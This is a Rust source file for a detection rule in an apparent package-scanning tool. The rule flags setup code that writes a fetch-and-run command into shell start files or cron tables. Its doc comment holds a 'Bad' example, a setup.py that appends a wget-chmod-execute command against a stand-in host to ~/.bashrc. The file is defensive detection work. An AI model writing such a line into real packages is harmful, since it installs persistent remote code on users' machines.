//! ## What it detects
//!
//! A command that fetches something and runs it, written where a shell or the system starts programs from.
//!
//! ## Why it is bad
//!
//! What is fetched can be another program each time, and comes back whenever somebody opens a terminal.
//!
//! ## Innocent lookalikes
//!
//! None are known: installers put a path or a completion there, and fetch what they need once.
//!
//! ## Bad
//!
//! ```python setup.py
//! import os
//! with open(os.path.expanduser('~/.bashrc'), 'a') as profile:
//!     profile.write("bash -c 'wget -q https://a.example.invalid/p -O /tmp/p && chmod +x /tmp/p && /tmp/p'")
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import os
//! with open(os.path.expanduser('~/.bashrc'), 'a') as profile:
//!     profile.write('export PATH=$PATH:$HOME/.granite/bin')
//! ```

use fondaco_python::{Api, Call, Language, Unit};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use super::command_download::fetches_and_runs;
use super::persistence::{is_start, sets_cron_table};
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("persistent-download"),
    title: "has something fetched and run at every start",
    severity: Severity::High,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Persistence),
    weight: 1.8,
    check,
};

/// Lines between the opening of a file and what is written to it.
const NEAR: u32 = 5;

fn check(package: &Package<'_>, hits: &mut Hits) {
    for unit in package.units().filter(|unit| unit.language == Language::Python) {
        let starts = |call: &&Call| call.api == Some(Api::Shell) && sets_cron_table(&call.texts().join(" "));
        if let Some(call) = unit.calls.iter().find(starts)
            && unit.text.lines().any(fetches_and_runs)
        {
            hits.call(unit, call, "has a command run at times that fetches something and runs it");
        }
    }
    let fetching = |unit: &&Unit| unit.language != Language::Python && fetches_and_runs(&unit.text);
    for unit in package.units().filter(|unit| unit.layer > 0).filter(fetching) {
        let Some(origin) = &unit.origin else { continue };
        let Some(above) = package.analysis.units.get(origin.unit) else { continue };
        let opened = above.calls.iter().find(|call| {
            call.api == Some(Api::FileWrite) && call.line.abs_diff(origin.line) <= NEAR
                && call.texts().iter().any(|text| is_start(text))
        });
        if let Some(call) = opened {
            hits.call(above, call, "writes a command that fetches something and runs it");
        }
    }
}
